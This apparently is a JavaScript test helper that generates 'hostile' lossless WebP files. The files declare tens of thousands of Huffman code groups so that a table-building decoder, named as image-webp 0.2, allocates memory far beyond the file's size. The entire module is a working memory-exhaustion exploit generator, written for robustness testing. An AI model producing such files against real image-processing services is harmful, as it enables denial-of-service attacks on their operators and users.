// Hostile lossless WebP files, generated (a few MB; not worth committing).
//
// A VP8L image may split itself into up to 65,536 groups of Huffman codes,
// chosen per block through a small "entropy image", and every group's five
// codes come first in the bitstream. A decoder that builds tables for all
// the groups a file declares before it decodes a pixel (image-webp 0.2, as
// the `image` crate uses it) can be made to allocate far more than the
// file's size: a normal Huffman code of 11 symbols with code lengths up to
// 10 costs about 90 bits and makes a 1,024-entry (4 KiB) lookup table.
//
// Bit layout from the WebP lossless bitstream specification (RFC 9649):
// fields are written least significant bit first.

class BitWriter {
  constructor() { this.bytes = []; this.acc = 0; this.n = 0; }
  put(value, bits) {
    for (let i = 0; i < bits; i++) {
      this.acc |= ((value >>> i) & 1) << this.n;
      if (++this.n === 8) { this.bytes.push(this.acc); this.acc = 0; this.n = 0; }
    }
  }
  finish() {
    if (this.n) this.bytes.push(this.acc);
    return Buffer.from(this.bytes);
  }
}

/** A simple prefix code with one symbol (< 256): decoding it reads no bits. */
function oneSymbolCode(w, symbol) {
  w.put(1, 1); // simple code
  w.put(0, 1); // one symbol
  w.put(1, 1); // 8-bit symbol
  w.put(symbol, 8);
}

// Code-length code: symbols 1..10 (the lengths used below); 6 of them
// 3 bits long and 4 of them 4 bits long is a complete code.
const CL_ORDER = [17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15];
const CL_LENGTHS = { 1: 3, 2: 3, 3: 3, 4: 3, 5: 3, 6: 3, 7: 4, 8: 4, 9: 4, 10: 4 };

/** Canonical codes (as the decoders assign them) for length table `lengths` (symbol → length). */
function canonical(lengths) {
  const entries = Object.entries(lengths).map(([s, l]) => [Number(s), l]).sort((a, b) => a[1] - b[1] || a[0] - b[0]);
  const codes = {};
  let code = 0, prev = entries[0][1];
  for (const [s, l] of entries) {
    code <<= l - prev; prev = l;
    codes[s] = { code, len: l };
    code++;
  }
  return codes;
}
const CL_CODES = canonical(CL_LENGTHS);

/** Writes a Huffman code (MSB of the code first, as the spec reads codes bit by bit). */
function putCode(w, { code, len }) {
  for (let i = len - 1; i >= 0; i--) w.put((code >>> i) & 1, 1);
}

/**
 * A normal prefix code whose symbols 0..10 have lengths 1, 2, ..., 10, 10:
 * complete, longest code 10 bits, so a table decoder builds a 1,024-entry
 * table for it.
 */
function elevenSymbolCode(w) {
  w.put(0, 1); // normal code
  const n = CL_ORDER.indexOf(10) + 1; // code-length code lengths written up to symbol 10
  w.put(n - 4, 4);
  for (let i = 0; i < n; i++) w.put(CL_LENGTHS[CL_ORDER[i]] ?? 0, 3);
  // max_symbol: only 11 code lengths follow, the rest are 0.
  w.put(1, 1);
  w.put(1, 3); // length_nbits = 2 + 2 * 1 = 4
  w.put(11 - 2, 4);
  for (const len of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 10]) putCode(w, CL_CODES[len]);
}

/**
 * A `width`×`height` lossless WebP whose entropy image names group
 * `groups - 1`, so `groups` groups of five 1,024-entry-table codes are
 * declared before the first pixel. Every pixel uses the last group and is
 * black, so a decoder that survives the tables decodes a valid image.
 */
export function huffmanGroupsWebp({ groups = 65536, width = 16, height = 16 } = {}) {
  const w = new BitWriter();
  w.put(0x2f, 8); // VP8L signature
  w.put(width - 1, 14);
  w.put(height - 1, 14);
  w.put(0, 1); // alpha not used
  w.put(0, 3); // version
  w.put(0, 1); // no transform
  w.put(0, 1); // no colour cache
  w.put(1, 1); // meta prefix codes follow
  const bits = 9; // one entropy pixel per 512×512 block
  w.put(bits - 2, 3);
  // Entropy image (⌈w/512⌉ × ⌈h/512⌉ pixels): group index in red/green.
  w.put(0, 1); // its own colour cache: none
  const g = groups - 1;
  oneSymbolCode(w, g & 0xff); // green: low byte of the group
  oneSymbolCode(w, g >> 8); // red: high byte
  oneSymbolCode(w, 0); // blue
  oneSymbolCode(w, 0); // alpha
  oneSymbolCode(w, 0); // distance
  // Its pixels: all codes have one symbol, so no bits.
  for (let i = 0; i < groups; i++) for (let c = 0; c < 5; c++) elevenSymbolCode(w);
  // Main image: every pixel symbol 0 in each of green, red, blue, alpha
  // (the 1-bit code "0" of the length-1 symbol): black, transparent alpha
  // ignored (alpha not used).
  for (let p = 0; p < width * height; p++) for (let c = 0; c < 4; c++) w.put(0, 1);
  const vp8l = w.finish();
  const chunk = Buffer.alloc(8 + vp8l.length + (vp8l.length & 1));
  chunk.write('VP8L', 0, 'ascii');
  chunk.writeUInt32LE(vp8l.length, 4);
  vp8l.copy(chunk, 8);
  const riff = Buffer.alloc(12);
  riff.write('RIFF', 0, 'ascii');
  riff.writeUInt32LE(4 + chunk.length, 4);
  riff.write('WEBP', 8, 'ascii');
  return Buffer.concat([riff, chunk]);
}
